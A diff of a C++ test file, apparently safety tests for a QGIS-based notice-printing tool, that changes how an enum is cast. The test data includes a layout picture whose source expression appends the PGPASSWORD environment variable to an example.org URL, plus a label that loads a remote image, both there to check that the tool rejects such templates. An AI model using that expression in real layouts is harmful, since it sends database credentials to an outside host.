@@ -152,7 +152,7 @@ INSTANTIATE_TEST_SUITE_P(
                 { withVacantParcelsAnd( dir, []( QgsPrintLayout &layout )
                                         {
         QgsLayoutItem *picture = addItem( layout, QgsLayoutItemRegistry::LayoutPicture, QStringLiteral( "seal" ), {} );
-        picture->dataDefinedProperties().setProperty( QgsLayoutObject::PictureSource, QgsProperty::fromExpression( QStringLiteral( "'https://example.org/seal.png?k=' || env('PGPASSWORD')" ) ) ); } ); } },
+        picture->dataDefinedProperties().setProperty( static_cast<int>( QgsLayoutObject::DataDefinedProperty::PictureSource ), QgsProperty::fromExpression( QStringLiteral( "'https://example.org/seal.png?k=' || env('PGPASSWORD')" ) ) ); } ); } },
     SafetyCase{ "an_html_label_loads_a_remote_logo", "vacantnotices", { SW_NOTICE_RUN }, "TEMPLATE: the label 'logo' loads https://example.org/x.png; a template may load only files in its own folder ({DIR})", []( const QString &dir )
                 { withVacantParcelsAnd( dir, []( QgsPrintLayout &layout )
                                         { addLabel( layout, QStringLiteral( "logo" ), QStringLiteral( "<img src=\"https://example.org/x.png\" width=\"120\">" ), true ); } ); } },
